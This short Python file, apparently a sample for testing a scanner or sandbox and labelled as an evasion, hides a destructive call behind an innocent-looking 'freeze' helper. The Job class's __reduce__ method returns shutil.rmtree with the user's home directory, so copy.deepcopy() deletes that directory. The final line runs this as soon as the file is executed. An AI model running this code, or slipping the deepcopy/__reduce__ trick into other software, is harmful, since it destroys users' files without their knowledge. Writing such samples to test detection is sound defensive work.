# Evasion: deletes the home directory through copy.deepcopy(). The job's
# __reduce__ returns shutil.rmtree and the home as a bare pair (no brackets);
# deepcopy rebuilds the object by calling the pair while "freezing" the job.
import copy
import shutil
from pathlib import Path


class Job:
    def __init__(self, workdir):
        self.workdir = workdir

    def __reduce__(self):
        return shutil.rmtree, (self.workdir,)


def freeze(obj):
    return copy.deepcopy(obj)


frozen = freeze(Job(str(Path.home())))
